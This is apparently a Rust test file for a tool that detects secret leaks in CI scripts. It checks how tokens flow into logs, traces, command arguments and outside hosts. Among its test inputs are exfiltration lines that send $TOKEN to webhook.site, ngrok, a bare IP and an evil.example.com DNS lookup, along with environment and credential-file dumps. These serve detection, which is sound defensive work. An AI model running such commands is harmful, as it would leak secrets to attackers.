use proptest::prelude::*;

use super::*;

fn place(start: usize, end: usize) -> Place {
    Place { source: SourceId(0), span: Span::new(start, end) }
}

/// Follows scripts of one job with `$TOKEN` and `$KEY` in the environment and `${{ NAME }}` as secrets; one line per leak.
fn leaks_of(language: Language, scripts: &[&str]) -> Vec<String> {
    let mut state = State::default();
    for name in ["TOKEN", "KEY"] {
        let taint = state.secret(name, place(0, 0), Nature::Masked);
        state.bind(name, vec![taint]);
    }
    let mut shown = Vec::new();
    for script in scripts {
        let opaque: Vec<Span> =
            script.match_indices("${{").map(|(at, _)| Span::new(at, at + script[at..].find("}}").unwrap() + 2)).collect();
        let holes: Vec<Vec<Taint>> = opaque
            .iter()
            .map(|span| vec![state.secret(script[span.range()].trim_matches(['$', '{', '}', ' ']), place(0, 0), Nature::Masked)])
            .collect();
        let text = Text::plain(script, 0);
        let code = Code {
            text: &text,
            source: SourceId(0),
            language,
            opaque: &opaque,
            holes: &holes,
            trace: None,
            here: "",
            own: "",
            folder: None,
        };
        let (leaks, _) = state.scoped(|state| follow(&code, state));
        for leak in leaks {
            let origin = state.origin(&leak.taint).unwrap();
            let by = leak.taint.changed_by.as_deref().filter(|_| leak.taint.form == Form::Derived).map(|by| format!(" by {by}"));
            let fetched = if origin.nature == Nature::Fetched { " fetched" } else { "" };
            let reach = if leak.reach == Reach::Log { String::new() } else { format!("{:?}: ", leak.reach) };
            shown.push(format!("{reach}{}{}{fetched} at {}", origin.name, by.unwrap_or_default(), &script[leak.taint.at.span.range()]));
        }
    }
    shown
}

fn shell(script: &str) -> String {
    leaks_of(Language::Shell(Dialect::Posix), &[script]).join("; ")
}

#[test]
fn what_is_printed_leaks() {
    for (script, leak) in [
        ("echo $TOKEN", "TOKEN at $TOKEN"),
        ("echo \"a ${TOKEN} b\"", "TOKEN at ${TOKEN}"),
        ("echo ${{ X }}", "X at ${{ X }}"),
        ("echo '${{ X }}'", "X at ${{ X }}"),
        ("printf '%s\\n' \"$TOKEN\"", "TOKEN at $TOKEN"),
        ("echo $TOKEN >&2", "TOKEN at $TOKEN"),
        ("echo $TOKEN > /dev/stderr", "TOKEN at $TOKEN"),
        ("echo $TOKEN | tee f", "TOKEN at $TOKEN"),
        ("echo $TOKEN > >(tee f)", "TOKEN at $TOKEN"),
        ("exec > >(tee -a f) 2>&1\necho $TOKEN", "TOKEN at $TOKEN"),
        ("echo $TOKEN > >(tee f > /dev/null)", ""),
        ("echo $TOKEN > >(docker login --password-stdin)", ""),
        ("echo $TOKEN | tee /dev/stderr > f", "TOKEN at $TOKEN"),
        ("cat <<EOF\nx: $TOKEN\nEOF", "TOKEN at $TOKEN"),
        ("cat <<'EOF'\nx: ${{ X }}\nEOF", "X at ${{ X }}"),
        ("cat <<< $TOKEN", "TOKEN at $TOKEN"),
        ("X=$TOKEN; echo $X", "TOKEN at $X"),
        ("export X=\"a$TOKEN\"\nY=$X\necho $Y", "TOKEN at $Y"),
        ("if a; then X=$TOKEN; else X=b; fi; echo $X", "TOKEN at $X"),
        ("for x in $TOKEN; do echo $x; done", "TOKEN at $x"),
        ("name=TOKEN; echo ${!name}", "TOKEN at ${!name}"),
        ("for name in A TOKEN; do echo \"$name=${!name}\"; done", "TOKEN at ${!name}"),
        ("X=$(echo $TOKEN); echo $X", "TOKEN at $X"),
        ("echo \"$(echo $TOKEN)\"", "TOKEN at $TOKEN"),
        ("echo $TOKEN | while read -r l; do echo $l; done", "TOKEN at $l"),
        ("read x <<< $TOKEN; echo $x", "TOKEN at $x"),
        ("echo ${TOKEN:-none} ${NONE:-$KEY}", "TOKEN at ${TOKEN:-none}; KEY at $KEY"),
        ("echo ::error::$TOKEN", "TOKEN at $TOKEN"),
        ("printenv TOKEN", "TOKEN at printenv TOKEN"),
        ("printf -v x %s $TOKEN; echo $x", "TOKEN at $x"),
        ("echo $TOKEN > f; cat f", "TOKEN at cat f"),
        ("echo $TOKEN > f; cp f g; cat ./g", "TOKEN at cat ./g"),
        ("echo $TOKEN > f; grep x f", "TOKEN at grep x f"),
        ("a=($TOKEN b); echo \"${a[@]}\"", "TOKEN at ${a[@]}"),
        ("cat <(echo $TOKEN)", "TOKEN at $TOKEN"),
        ("jq -n --arg p \"$TOKEN\" '{$p}'", "TOKEN at $TOKEN"),
        ("(echo $TOKEN) 2>/dev/null", "TOKEN at $TOKEN"),
        ("printf %s \"$TOKEN\" | base64 -w0", "TOKEN at $TOKEN"),
        ("echo -n \"u:$TOKEN\" | base64 -w 0", "TOKEN at $TOKEN"),
    ] {
        assert_eq!(shell(script), leak, "{script}");
    }
}

#[test]
fn changes_are_not_masked() {
    for (script, leak) in [
        ("echo $TOKEN | cut -c1-4", "TOKEN by cut at $TOKEN"),
        ("echo ${TOKEN:0:4}", "TOKEN by the shell at ${TOKEN:0:4}"),
        ("echo $TOKEN | base64", "TOKEN by base64 at $TOKEN"),
        ("echo $TOKEN | base64 -w0", "TOKEN by base64 at $TOKEN"),
        ("printf %s \"$TOKEN:x\" | base64 -w0", "TOKEN by base64 at $TOKEN"),
        ("base64 <<< $TOKEN", "TOKEN by base64 at $TOKEN"),
        ("P=$(echo $TOKEN | jq -r .password)\necho $P", "TOKEN by jq at $P"),
        ("echo $TOKEN | rev | tee f", "TOKEN by rev at $TOKEN"),
        ("X=${TOKEN%%:*}; echo $X", "TOKEN by the shell at $X"),
        ("A=$(jq -r .a <<< $TOKEN); echo \"::add-mask::$A\"; echo $A; B=$(jq -r .b <<< $TOKEN); echo $B", "TOKEN by jq at $B"),
        ("echo $TOKEN | head -c4", "TOKEN by head at $TOKEN"),
    ] {
        assert_eq!(shell(script), leak, "{script}");
    }
}

#[test]
fn what_is_fetched_is_unknown_to_the_platform() {
    for (script, leak) in [
        (
            "P=$(aws secretsmanager get-secret-value --secret-id x --query SecretString --output text)\necho $P",
            "aws secretsmanager get-secret-value fetched at $P",
        ),
        (
            "P=$(aws secretsmanager get-secret-value --secret-id x | jq -r .SecretString); echo $P",
            "aws secretsmanager get-secret-value by jq fetched at $P",
        ),
        ("kubectl get secret x -o yaml", "kubectl get secret fetched at kubectl get secret x -o yaml"),
        (
            "kubectl get secret x -o jsonpath='{.data.p}' | base64 -d",
            "kubectl get secret by base64 fetched at kubectl get secret x -o jsonpath='{.data.p}'",
        ),
        ("vault kv get -field=p x", "vault kv get fetched at vault kv get -field=p x"),
        (
            "gcloud secrets versions access latest --secret=x",
            "gcloud secrets versions access fetched at gcloud secrets versions access latest --secret=x",
        ),
        (
            "az keyvault secret show --vault-name v -n x --query value -o tsv",
            "az keyvault secret show fetched at az keyvault secret show --vault-name v -n x --query value -o tsv",
        ),
        (
            "aws ssm get-parameter --name x --with-decryption",
            "aws ssm get-parameter fetched at aws ssm get-parameter --name x --with-decryption",
        ),
        ("doppler secrets get X --plain", "doppler secrets get fetched at doppler secrets get X --plain"),
        (
            "doppler secrets download --no-file --format env",
            "doppler secrets download fetched at doppler secrets download --no-file --format env",
        ),
        ("op read op://a/b/c", "op read fetched at op read op://a/b/c"),
        ("terraform output -raw db_password", "terraform output fetched at terraform output -raw db_password"),
        ("P=$(terraform output -raw db_password)\necho \"$P\"", "terraform output fetched at $P"),
        ("sops -d x.yaml", "sops -d fetched at sops -d x.yaml"),
        ("vault read -field=password database/creds/x", "vault read fetched at vault read -field=password database/creds/x"),
        ("terraform output -raw vpc_id", ""),
        ("vault read sys/health", ""),
        ("sops -d -i x.yaml", ""),
        ("doppler secrets download", ""),
        ("aws ssm get-parameter --name x", ""),
        ("aws sts assume-role --role-arn x --query AssumedRoleUser.Arn", ""),
        ("C=$(aws sts assume-role --role-arn x)", ""),
        ("aws configure get region", ""),
        ("kubectl config view", ""),
        ("kubectl config view --raw -o jsonpath='{.clusters[0].cluster.server}'", ""),
        ("az storage account keys list --query '[].keyName'", ""),
        ("heroku apps:info config", ""),
        ("kubectl get secret x", ""),
        ("az keyvault secret show --query id", ""),
        ("P=$(vault kv get -field=p x); echo \"::add-mask::$P\"; echo $P", ""),
        ("aws ecr get-login-password | docker login --password-stdin x", ""),
    ] {
        assert_eq!(shell(script), leak, "{script}");
    }
}

#[test]
fn functions_do_what_they_do_when_they_are_called() {
    for (script, leak) in [
        ("log() { echo \"[x] $1\"; }\nlog \"token $TOKEN\"", "TOKEN at $TOKEN"),
        ("function say { if true; then printf '%s' \"$*\"; fi; }\nsay a $TOKEN", "TOKEN at $TOKEN"),
        ("log() { echo \"$2\"; }\nlog $TOKEN $KEY", "KEY at $KEY"),
        ("main() { show; }\nshow() { echo $TOKEN; }\nmain \"$@\"", "TOKEN at $TOKEN"),
        ("log() { echo \"$1\" >&2; }\nX=$(log $TOKEN)", "TOKEN at $TOKEN"),
        ("show() { while read -r l; do echo \"$l\"; done; }\necho $TOKEN | show", "TOKEN at $l"),
        ("get() { X=$TOKEN; }\nget\necho $X", "TOKEN at $X"),
        ("log() { shift; echo \"$1\"; }\nlog info $TOKEN", "TOKEN at $TOKEN"),
        ("part() { echo \"$1\" | cut -c1-4; }\nX=$(part $TOKEN)\necho $X", "TOKEN by cut at $X"),
        ("f() { g; }\ng() { f; echo $TOKEN; }\nf", "TOKEN at $TOKEN"),
        ("log() { echo \"$1\" > f; }\nlog $TOKEN", ""),
        ("log() { curl -d \"$1\" u; }\nlog $TOKEN", ""),
        ("log() { echo \"$1\"; }\nX=$(log $TOKEN)", ""),
        ("log() { echo \"$1\"; }\nlog $TOKEN > f", ""),
        ("debug() { echo $TOKEN; }", ""),
        ("log() { M=$(echo \"$1\"); echo \"$M\"; }\nX=$(log $TOKEN)\nlog hello", ""),
    ] {
        assert_eq!(shell(script), leak, "{script}");
    }
}

#[test]
fn tracing_prints_what_is_expanded() {
    for (script, leak) in [
        ("set -x\ncurl -H \"a: $TOKEN\" u", "Trace: TOKEN at set -x"),
        ("set -euxo pipefail\ncmd $TOKEN", "Trace: TOKEN at set -euxo pipefail"),
        ("set -o xtrace; X=$TOKEN", "Trace: TOKEN at set -o xtrace"),
        ("set -x\nX=$(echo $TOKEN | cut -c1-4)", "Trace: TOKEN at set -x; Trace: TOKEN by cut at set -x"),
        ("bash -xc 'cmd $TOKEN'", "Trace: TOKEN at bash -xc 'cmd $TOKEN'"),
        ("bash -x ./unknown.sh", "Trace: KEY at bash -x ./unknown.sh"),
        ("f() { cmd $TOKEN; }\nset -x\nf", "Trace: TOKEN at set -x"),
        ("set -v\ncmd ${{ X }}", "Trace: X at set -v"),
        ("set -v\ncmd $TOKEN", ""),
        ("set -x\necho hello\nset +x\ncmd $TOKEN", ""),
        ("(set -x; make)\ncmd $TOKEN", ""),
        ("cmd $TOKEN\nset -x\nmake", ""),
        ("set -e\ncmd $TOKEN", ""),
        ("set -- -x\ncmd $TOKEN", ""),
        ("PS4='+ '\ncmd $TOKEN", ""),
        ("{ set -x; cmd $TOKEN; } 2>/dev/null", ""),
    ] {
        assert_eq!(shell(script), leak, "{script}");
    }
}

#[test]
fn dumps_print_everything() {
    for (script, leak) in [
        ("env", "Dump: KEY at env"),
        ("printenv | sort", "Dump: KEY at printenv"),
        ("set", "Dump: KEY at set"),
        ("export -p", "Dump: KEY at export -p"),
        ("declare -p", "Dump: KEY at declare -p"),
        ("env | grep -v PATH", "Dump: KEY at env"),
        ("P=$(vault kv get -field=p x)\nenv", "Dump: KEY at env"),
        ("P=$(vault kv get -field=p x)\nexport P\nenv", "Dump: vault kv get fetched at env"),
        ("P=$(vault kv get -field=p x)\ndeclare -x P\nenv", "Dump: vault kv get fetched at env"),
        ("env | grep TOKEN", "Dump: TOKEN at env"),
        ("env | grep ^GITHUB_", ""),
        ("env | cut -d= -f1", ""),
        ("env > f", ""),
        ("env FOO=bar cmd", ""),
        ("env -i cmd", ""),
        ("printenv PATH", ""),
        ("env --null -u PATH", "Dump: KEY at env --null -u PATH"),
        ("cat /proc/self/environ", "Dump: KEY at cat /proc/self/environ"),
        ("tr '\\0' '\\n' < /proc/$$/environ", "Dump: KEY at /proc/$$/environ"),
        ("jq -n env", "Dump: KEY at jq -n env"),
        ("jq -n '$ENV'", "Dump: KEY at jq -n '$ENV'"),
        ("jq -n '$ENV | keys'", ""),
        ("jq -rn 'env.TOKEN'", "TOKEN at jq -rn 'env.TOKEN'"),
        ("jq -r .environment f", ""),
        ("yq -n '.a = strenv(TOKEN)'", "TOKEN at yq -n '.a = strenv(TOKEN)'"),
        ("yq -i '.a = strenv(TOKEN)' f", ""),
        ("ruby -e 'puts ENV[\"TOKEN\"]'", "TOKEN at ruby -e 'puts ENV[\"TOKEN\"]'"),
        ("ruby -e 'puts ENV.fetch(\"TOKEN\").length'", ""),
        ("perl -e 'print $ENV{TOKEN}'", "TOKEN at perl -e 'print $ENV{TOKEN}'"),
        ("awk 'BEGIN { print ENVIRON[\"TOKEN\"] }'", "TOKEN at awk 'BEGIN { print ENVIRON[\"TOKEN\"] }'"),
        ("sed \"s/__T__/$TOKEN/\" f", "TOKEN at $TOKEN"),
        ("sed -i \"s/__T__/$TOKEN/\" f", ""),
        ("sed \"s/$TOKEN/***/\" f", ""),
        ("sed \"s/__T__/$TOKEN/\" f > g", ""),
        ("echo '{}' | python3 -c \"import sys, json; print(json.load(sys.stdin)['x'])\"", ""),
        ("echo \"$TOKEN\" | python3 -c \"import sys, json; print(json.load(sys.stdin)['x'])\"", "TOKEN by load at sys.stdin"),
        ("set -e", ""),
        ("X=$(env)", ""),
        ("docker compose config", "Dump: KEY at docker compose config"),
        ("docker compose config --quiet", ""),
        ("terraform output -json", "Dump: KEY at terraform output -json"),
        ("terraform output -json vpc_id", ""),
        ("cat ~/.docker/config.json", "Dump: KEY at cat ~/.docker/config.json"),
        ("cat README.md", ""),
    ] {
        assert_eq!(shell(script), leak, "{script}");
    }
    let powershell = |script: &str| leaks_of(Language::Shell(Dialect::PowerShell), &[script]).join("; ");
    assert_eq!(powershell("Get-ChildItem env:"), "Dump: KEY at Get-ChildItem env:");
    assert_eq!(powershell("gci env:PATH"), "");
}

#[test]
fn arguments_that_others_see() {
    for (script, leak) in [
        ("docker build --build-arg NPM=$TOKEN .", "BuildArgument: TOKEN at $TOKEN"),
        ("docker build --build-arg TOKEN .", "BuildArgument: TOKEN at TOKEN"),
        ("docker build --build-arg=A=\"$TOKEN\" .", "BuildArgument: TOKEN at $TOKEN"),
        ("docker buildx bake --set *.args.T=$TOKEN", "BuildArgument: TOKEN at $TOKEN"),
        ("docker build --secret id=t,env=TOKEN .", ""),
        ("docker build --build-arg VERSION=1 .", ""),
        ("docker login -u me -p $TOKEN ghcr.io", "Argument: TOKEN at $TOKEN"),
        ("git clone https://x:$TOKEN@github.com/a/b", "Argument: TOKEN at $TOKEN"),
        ("mysql -uroot -p$TOKEN", "Argument: TOKEN at $TOKEN"),
        ("helm upgrade a b --set db.password=$TOKEN", "Argument: TOKEN at $TOKEN"),
        ("helm upgrade a b --set image.tag=$TOKEN", ""),
        ("kubectl create secret generic a --from-literal=token=$TOKEN", "Argument: TOKEN at $TOKEN"),
        ("echo $TOKEN | docker login -u me --password-stdin", ""),
        ("curl -v -H \"Authorization: Bearer $TOKEN\" u", "Verbose: TOKEN at $TOKEN"),
        ("curl -sv -u me:$TOKEN u", "Verbose: TOKEN at $TOKEN"),
        ("curl -H \"Authorization: Bearer $TOKEN\" u", ""),
        ("curl -d \"t=$TOKEN\" https://webhook.site/x", "Collector: TOKEN at $TOKEN"),
        ("echo $TOKEN | curl -d @- https://abc.ngrok.io", "Collector: TOKEN at $TOKEN"),
        ("curl http://203.0.113.7/$TOKEN", "Collector: TOKEN at $TOKEN"),
        ("dig $TOKEN.evil.example.com", "Collector: TOKEN at $TOKEN"),
        ("curl -d \"t=$TOKEN\" http://localhost:8080", ""),
        ("curl -d \"t=$TOKEN\" https://collect.example.com/x", "Host: TOKEN at $TOKEN"),
        ("gh pr comment 1 --body \"t $TOKEN\"", "Comment: TOKEN at $TOKEN"),
        ("gh secret set X --body \"$TOKEN\"", ""),
        ("echo $TOKEN >> $GITHUB_STEP_SUMMARY", "Summary: TOKEN at $TOKEN"),
    ] {
        assert_eq!(shell(script), leak, "{script}");
    }
}

#[test]
fn masks_that_come_too_late_and_fields_that_get_none() {
    for (script, leak) in [
        (
            "P=$(vault kv get -field=p x)\necho $P\necho \"::add-mask::$P\"",
            "vault kv get fetched at $P; LateMask: vault kv get fetched at $P",
        ),
        ("P=$(vault kv get -field=p x)\necho \"p=$P\" >> $GITHUB_OUTPUT\necho \"::add-mask::$P\"", "LateMask: vault kv get fetched at $P"),
        ("echo $TOKEN > f; echo \"::add-mask::$TOKEN\"", ""),
    ] {
        assert_eq!(shell(script), leak, "{script}");
    }
    let mut state = State::default();
    let taint = state.secret("TOKEN", place(0, 0), Nature::Masked);
    state.bind("TOKEN", vec![taint]);
    let fields = |script: &str, state: &mut State| {
        let text = Text::plain(script, 0);
        let code = Code {
            text: &text,
            source: SourceId(0),
            language: Language::Shell(Dialect::Posix),
            opaque: &[],
            holes: &[],
            trace: None,
            here: "",
            own: "",
            folder: None,
        };
        follow(&code, state);
        let fields = state.take_fields();
        fields.iter().filter(|leak| state.is_open(&leak.taint)).count()
    };
    assert_eq!(fields("P=$(echo $TOKEN | jq -r .p)", &mut state), 1);
    assert_eq!(fields("P=$(jq -r .p <<< $TOKEN)\necho \"::add-mask::$P\"", &mut state), 0);
    assert_eq!(fields("P=$(echo $TOKEN | cut -c1)", &mut state), 0);
}

#[test]
fn a_file_is_the_same_where_the_paths_meet() {
    for (script, leak) in [
        ("cd x\necho $TOKEN > f\ncat f", "TOKEN at cat f"),
        ("cd x\necho $TOKEN > f\ncd ..\ncat f", ""),
        ("cd x\necho $TOKEN > f\ncd ..\ncat x/f", "TOKEN at cat x/f"),
        ("(cd x; echo $TOKEN > f)\ncat f", ""),
        ("(cd x; echo $TOKEN > f)\ncat ./x/f", "TOKEN at cat ./x/f"),
        ("pushd x\necho $TOKEN > f\npopd\ncat f", ""),
        ("pushd x\npopd\necho $TOKEN > f\ncat f", "TOKEN at cat f"),
        ("cd x\ncd -\necho $TOKEN > f\ncat f", "TOKEN at cat f"),
        ("cd \"$D\"\necho $TOKEN > f\ncat \"$D/f\"", "TOKEN at cat \"$D/f\""),
        ("cd x\necho $TOKEN > $GITHUB_WORKSPACE/f\ncat ../f", "TOKEN at cat ../f"),
        ("F=$(mktemp)\necho $TOKEN > \"$F\"\ncat \"$F\"", "TOKEN at cat \"$F\""),
        ("echo $TOKEN > \"$RUNNER_TEMP/a\"\ncat \"$RUNNER_TEMP/b\"", ""),
        ("bash -c 'cd x; echo $TOKEN > f'\ncat x/f", "TOKEN at cat x/f"),
    ] {
        assert_eq!(shell(script), leak, "{script}");
    }
}

/// A repository in memory.
struct Files(Vec<(&'static str, &'static str)>);

impl crate::formats::Tree for Files {
    fn read(&self, path: &str) -> Option<Arc<crate::source::Source>> {
        let at = self.0.iter().position(|(name, _)| *name == path)?;
        let id = SourceId(at as u32 + 1);
        Some(Arc::new(crate::source::Source { id, text: self.0[at].1.to_owned(), path: path.to_owned(), ..Default::default() }))
    }

    fn list(&self, _: &str) -> Vec<String> {
        Vec::new()
    }
}

#[test]
fn scripts_of_the_repository_are_read() {
    let files = Files(vec![
        ("ci/print.sh", "#!/bin/bash\necho \"$TOKEN $1\""),
        ("ci/lib.sh", "show() { echo \"$1\"; }\nX=$TOKEN"),
        ("ci/trace.sh", "#!/bin/bash -x\ncmd \"$TOKEN\""),
        ("ci/print.py", "import os\nprint(os.environ['TOKEN'])"),
        ("ci/loop.sh", "ci/loop.sh; bash ci/loop.sh; echo $TOKEN"),
    ]);
    for (script, leak) in [
        ("./ci/print.sh", "Log at ./ci/print.sh in 1"),
        ("bash ci/print.sh", "Log at bash ci/print.sh in 1"),
        ("sh ci/print.sh > f", ""),
        ("X=$(ci/print.sh)", ""),
        (". ci/lib.sh\necho $X", "Log at $X in 0"),
        ("bash ci/lib.sh\necho $X", ""),
        (". ci/lib.sh\nshow \"$TOKEN\"", "Log at $TOKEN in 2"),
        (". ci/lib.sh\nY=$(show \"$TOKEN\")", ""),
        ("show \"$TOKEN\"", ""),
        ("cd ci\n./print.sh", "Log at ./print.sh in 1"),
        ("cd ci\n$GITHUB_WORKSPACE/ci/print.sh", "Log at $GITHUB_WORKSPACE/ci/print.sh in 1"),
        ("ci/trace.sh", "Trace at ci/trace.sh in 3"),
        ("python3 ci/print.py", "Log at python3 ci/print.py in 4"),
        ("bash ci/loop.sh", "Log at bash ci/loop.sh in 5"),
        ("bash ci/missing.sh", ""),
    ] {
        let mut state = State::default();
        let taint = state.secret("TOKEN", place(0, 0), Nature::Masked);
        state.bind("TOKEN", vec![taint]);
        let text = Text::plain(script, 0);
        let folder = Some(Folder { tree: &files, path: "" });
        let code = Code {
            text: &text,
            source: SourceId(0),
            language: Language::Shell(Dialect::Posix),
            opaque: &[],
            holes: &[],
            trace: None,
            here: "",
            own: "",
            folder,
        };
        let leaks = follow(&code, &mut state);
        let shown =
            leaks.first().map(|leak| format!("{:?} at {} in {}", leak.reach, &script[leak.taint.at.span.range()], leak.sink.source.0));
        assert_eq!(shown.unwrap_or_default(), leak, "{script}");
    }
}

#[test]
fn scripts_inside_scripts() {
    for (script, leak) in [
        ("bash -c 'echo $TOKEN'", "TOKEN at $TOKEN"),
        ("sh -ec \"echo $TOKEN\"", "TOKEN at $TOKEN"),
        ("bash -e -c \"echo $TOKEN\"", "TOKEN at $TOKEN"),
        ("sh -c \"echo \\$TOKEN\"", "TOKEN at \\$TOKEN"),
        ("eval \"echo ${{ X }}\"", "X at ${{ X }}"),
        ("python3 -c \"import os; print(os.environ['TOKEN'])\"", "TOKEN at os.environ['TOKEN']"),
        ("python -c \"print('$TOKEN')\"", "TOKEN at $TOKEN"),
        ("python - <<'EOF'\nimport os\nprint(os.environ[\"TOKEN\"])\nEOF", "TOKEN at os.environ[\"TOKEN\"]"),
        ("node -e 'console.log(process.env.TOKEN)'", "TOKEN at process.env.TOKEN"),
        ("node -p process.env.TOKEN", "TOKEN at process.env.TOKEN"),
        ("node -p 'process.env.TOKEN.length'", ""),
        ("ssh host \"echo $TOKEN\"", "TOKEN at $TOKEN"),
        ("ssh host <<EOF\necho $TOKEN\nEOF", "TOKEN at $TOKEN"),
        ("bash -c \"bash -c 'bash -c \\\"echo $TOKEN\\\"'\"", "TOKEN at $TOKEN"),
        ("bash -c 'echo $TOKEN' > f", ""),
        ("x=$(python -c \"print('$TOKEN')\")", ""),
        ("bash script.sh $TOKEN", ""),
        ("eval echo \\$TOKEN", "TOKEN at \\$TOKEN"),
        ("trap 'echo $TOKEN' EXIT", "TOKEN at $TOKEN"),
        ("bye() { echo $TOKEN; }\ntrap bye EXIT", "TOKEN at $TOKEN"),
        ("trap - EXIT", ""),
        ("echo $TOKEN | xargs -n1 echo", "TOKEN at $TOKEN"),
        ("echo $TOKEN | xargs -I{} sh -c 'echo {}'", "TOKEN at $TOKEN"),
        ("echo $TOKEN | xargs sh -c 'echo \"$0 $1\"' _", "TOKEN at $TOKEN"),
        ("docker exec c sh -c \"echo $TOKEN\"", "TOKEN at $TOKEN"),
        ("docker exec c sh -c 'echo $TOKEN'", ""),
        ("ssh host 'echo $TOKEN'", ""),
        ("ssh -i key host echo $TOKEN", "TOKEN at $TOKEN"),
        ("bash -c 'echo $1' _ $TOKEN", "TOKEN at $TOKEN"),
        ("bash -c 'curl -H \"$TOKEN\" u'", ""),
    ] {
        assert_eq!(shell(script), leak, "{script}");
    }
}

#[test]
fn what_is_not_printed_stays() {
    for script in [
        "X=$(echo \"$TOKEN\" | jq -r .a)",
        "echo \"$TOKEN\" | docker login --password-stdin",
        "echo \"$TOKEN\" > f",
        "echo \"X=$TOKEN\" >> \"$GITHUB_ENV\"",
        "echo \"x=$TOKEN\" >> $GITHUB_OUTPUT",
        "printf -v x %s \"$TOKEN\"",
        "echo \"::add-mask::$TOKEN\"; echo $TOKEN",
        "echo ${#TOKEN}",
        "[ -n \"$TOKEN\" ] && echo yes",
        "echo \"${TOKEN:+set}\"",
        "# echo $TOKEN",
        "cat <<'EOF'\n$TOKEN\nEOF",
        "echo '$TOKEN' \\$TOKEN",
        "cat > f <<EOF\n$TOKEN\nEOF",
        "{ echo a; echo $TOKEN; } > f",
        "echo $TOKEN | sha256sum",
        "echo $TOKEN | wc -c",
        "echo $TOKEN | grep -q x",
        "curl -H \"Authorization: $TOKEN\" u",
        "TOKEN=x; echo $TOKEN",
        "echo $TOKEN > /dev/null",
        "echo $TOKEN | gh auth login --with-token",
        "exec > f; echo $TOKEN",
        "echo \"::set-output name=x::$TOKEN\"",
        "while read -r l; do echo \"::add-mask::$l\"; done <<< \"$TOKEN\"; echo $TOKEN",
        "X=$TOKEN cmd; echo $X",
        "echo $TOKEN | xargs -I{} curl -H {} u",
        "echo $TOKEN | sed 's/./*/g'",
        "echo ${TOKEN//?/*}",
        "echo $TOKEN | jq empty && echo valid",
        "echo $TOKEN | dd of=f",
        "logger $TOKEN",
        "echo $TOKEN | awk '{ print length($0) }'",
        "echo $TOKEN | tr -d '\\r' | ssh-add - > /dev/null",
    ] {
        assert_eq!(shell(script), "", "{script}");
    }
}

#[test]
fn windows_shells() {
    let powershell = |script: &str| leaks_of(Language::Shell(Dialect::PowerShell), &[script]).join("; ");
    for (script, leak) in [
        ("Write-Host \"t: $env:TOKEN\"", "TOKEN at $env:TOKEN"),
        ("Write-Output $env:token", "TOKEN at $env:token"),
        ("echo ${{ X }}", "X at ${{ X }}"),
        ("$x = $env:TOKEN\nWrite-Host $x", "TOKEN at $x"),
        ("\"$env:TOKEN\"", "TOKEN at $env:TOKEN"),
        ("Write-Host $env:TOKEN.Substring(0, 4)", "TOKEN by the shell at $env:TOKEN"),
        ("Write-Host ($env:TOKEN)", "TOKEN at $env:TOKEN"),
        ("$x = $env:TOKEN | ConvertFrom-Json", ""),
        ("\"X=$env:TOKEN\" >> $env:GITHUB_ENV", ""),
        ("$env:TOKEN | docker login --password-stdin", ""),
        ("echo \"a=$env:TOKEN\" | Out-File -FilePath $env:GITHUB_ENV -Append", ""),
        ("if ($env:TOKEN) { Write-Host 'set' }", ""),
        ("$x = if ($a) { $env:TOKEN } else { \"$env:KEY\" }", ""),
        ("$x = @(\n  '--token'\n  \"$env:TOKEN\"\n)", ""),
        ("Invoke-RestMethod -Headers @{ Authorization = \"Bearer $env:TOKEN\" } -Uri $u", ""),
        ("$p = ConvertTo-SecureString $env:TOKEN -AsPlainText -Force", ""),
        ("Write-Output \"::add-mask::$env:TOKEN\"; Write-Host $env:TOKEN", ""),
        ("Write-Host \"$($env:TOKEN.Length) $([bool]$env:TOKEN) $($env:TOKEN -ne '')\"", ""),
        ("Write-Host $env:TOKEN.Length", ""),
        ("\"$env:TOKEN\" | Write-Host", "TOKEN at $env:TOKEN"),
        ("Get-ChildItem env:TOKEN", "TOKEN at Get-ChildItem env:TOKEN"),
        ("dir env: | % { Write-Host \"$($_.Name)=$($_.Value)\" }", "Dump: KEY at $_"),
        ("dir env: | % { Write-Host $_.Name }", ""),
        ("Write-Host \"$($env:TOKEN.Trim())\"", "TOKEN by the shell at $env:TOKEN"),
    ] {
        assert_eq!(powershell(script), leak, "{script}");
    }
    let cmd = |script: &str| leaks_of(Language::Shell(Dialect::Cmd), &[script]).join("; ");
    assert_eq!(cmd("@echo off\necho %TOKEN%\nset X=%KEY%\necho %x%>f\necho %x%"), "TOKEN at %TOKEN%; KEY at %x%");
}

#[test]
fn python_and_javascript() {
    let python = |script: &str| leaks_of(Language::Python, &[script]).join("; ");
    for (script, leak) in [
        ("import os\nprint(os.environ[\"TOKEN\"])", "TOKEN at os.environ[\"TOKEN\"]"),
        ("t = os.getenv('TOKEN')\nprint(f'a {t}')", "TOKEN at t"),
        ("print('a ${{ X }}')", "X at ${{ X }}"),
        ("print(os.environ['TOKEN'][:4])", "TOKEN by a slice at os.environ['TOKEN']"),
        ("print(len(os.environ['TOKEN']))", ""),
        ("print('TOKEN' in os.environ)", ""),
        ("for k, v in os.environ.items():\n    print(k, v)", "Dump: KEY at v"),
        ("for k, v in os.environ.items():\n    print(k)", ""),
        ("requests.get(u, headers={'a': os.environ['TOKEN']})", ""),
        ("print(os.environ['TOKEN'], file=f)", ""),
        ("# print(os.environ['TOKEN'])", ""),
    ] {
        assert_eq!(python(script), leak, "{script}");
    }
    let javascript = |script: &str| leaks_of(Language::JavaScript, &[script]).join("; ");
    for (script, leak) in [
        ("console.log(process.env.TOKEN)", "TOKEN at process.env.TOKEN"),
        ("const t = process.env.TOKEN;\ncore.info(`t: ${t}`);", "TOKEN at t"),
        ("core.info('${{ X }}')", "X at ${{ X }}"),
        ("const t = 'a ${{ X }}'\nconsole.log(t)", "X at t"),
        ("console.log(process.env.TOKEN.slice(0, 4))", "TOKEN by slice at process.env.TOKEN"),
        ("console.log(process.env.TOKEN ? 'set' : 'unset')", ""),
        ("console.log(!!process.env.TOKEN, process.env.TOKEN.length)", ""),
        ("core.setSecret(process.env.TOKEN)", ""),
        ("const p = process.env.TOKEN.slice(0, 4)\ncore.setSecret(p)\nconsole.log(p)", ""),
        ("const { TOKEN, KEY: k } = process.env\nconsole.log(k)", "KEY at k"),
        ("for (const [name, value] of Object.entries(process.env)) console.log(name, value)", "Dump: KEY at value"),
        ("github.rest.issues.createComment({ body: `x ${process.env.TOKEN}` })", "Comment: TOKEN at process.env.TOKEN"),
        ("core.summary.addRaw(process.env.TOKEN)", "Summary: TOKEN at process.env.TOKEN"),
        ("core.setOutput('t', process.env.TOKEN)", ""),
        ("// console.log(process.env.TOKEN)\n/* console.log(process.env.TOKEN) */", ""),
        ("console.log(text.replace(process.env.TOKEN, '***'))", ""),
